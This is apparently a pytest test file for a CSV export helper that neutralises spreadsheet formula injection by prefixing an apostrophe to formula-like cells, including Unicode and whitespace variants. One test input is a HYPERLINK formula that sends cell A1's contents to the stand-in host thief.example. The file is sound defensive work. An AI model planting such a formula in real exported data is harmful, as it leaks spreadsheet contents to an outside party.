"""No cell of a CSV file is a formula, in any file that is written."""

from __future__ import annotations

import csv
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from poutama.spreadsheet import disarm_formula, format_row

FORMULA = '=HYPERLINK("https://thief.example?"&A1)'
FORMULAS = (
    *("=1+1", "+1", "-1", "@SUM(A1)", "|calc", "%0A=1", FORMULA),
    *("＝1", "＋1", "－1", "＠x", "｜calc", "％0A", "﹦1", "﹢1", "﹣1", "﹫x"),
    *("\t=1", "\r=1", "\n=1", "\r\n=1", "\tx", "\rx", "\nx"),
    *(" =1", "   +1", "\u00a0=1", "\u2003=1", "\u3000=1", "\u2028=1"),
    *("\u200b=1", "\ufeff=1", "\u2060=1", "\u00ad=1", "\u202e=1", "\x00=1", "\x0b=1", "\x1f=1"),
    *(" \u200b\ufeff＝1", "\u200b\t1", "'=1", "'x"),
)
"""What some spreadsheet runs, or would when what is before it is taken away."""
TEXTS = ("", " ", "\u200b", "Kia ora", "3-4", "a=b", "ā@x", "1", '"=1', "٪", "½", "مرحبا")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_a_text(text: str) -> None:
    assert disarm_formula(text) == "'" + text


@pytest.mark.parametrize("text", TEXTS)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert disarm_formula(text) == text


@given(st.text())
def test_taking_the_apostrophe_away_restores_every_text(text: str) -> None:
    shown = disarm_formula(text)
    assert (shown[1:] if shown.startswith("'") else shown) == text


@given(st.lists(st.text(), min_size=1))
def test_a_row_is_read_back_by_the_standard_reader(cells: list[str]) -> None:
    (row,) = csv.reader(StringIO(format_row(cells), newline=""), strict=True)
    assert row == [disarm_formula(cell) for cell in cells]


def test_every_cell_is_quoted() -> None:
    assert format_row(["a;=1+1", 3, True, False, 'a"b']) == '"a;=1+1","3","true","false","a""b"\r\n'
